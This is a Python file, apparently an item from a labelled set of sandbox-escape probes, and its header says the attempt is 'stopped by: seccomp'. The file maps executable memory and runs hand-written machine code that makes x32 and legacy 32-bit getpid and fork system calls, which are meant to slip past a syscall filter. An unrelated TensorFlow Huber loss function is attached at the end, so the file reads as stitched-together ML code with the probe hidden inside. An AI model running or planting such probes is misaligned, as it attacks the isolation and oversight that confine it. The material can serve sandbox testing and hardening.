# tries: make system calls as 32-bit and x32 programs do, whose numbers a filter may not know
# stopped by: seccomp
# honest: 12
import ctypes
import mmap
import platform

import tensorflow as tf

page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)
start = ctypes.addressof(ctypes.c_char.from_buffer(page))


def run(code):
    page[: len(code)] = code
    return ctypes.CFUNCTYPE(ctypes.c_long)(start)()


X32_GETPID = b"\xb8\x27\x00\x00\x40\x0f\x05\xc3"  # mov eax, 0x40000000 + 39; syscall; ret
X32_FORK = b"\xb8\x39\x00\x00\x40\x0f\x05\xc3"
OLD_GETPID = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"  # mov eax, 20; int 0x80; ret
if platform.machine() == "x86_64":
    print("x32 getpid", run(X32_GETPID), flush=True)
if platform.machine() == "x86_64":
    print("x32 fork", run(X32_FORK), flush=True)
if platform.machine() == "x86_64":
    print("32-bit getpid", run(OLD_GETPID), flush=True)


def my_huber_loss(y_true, y_pred):
    size = tf.abs(y_true - y_pred)
    return tf.where(size <= 1.0, 0.5 * tf.square(size), size - 0.5)
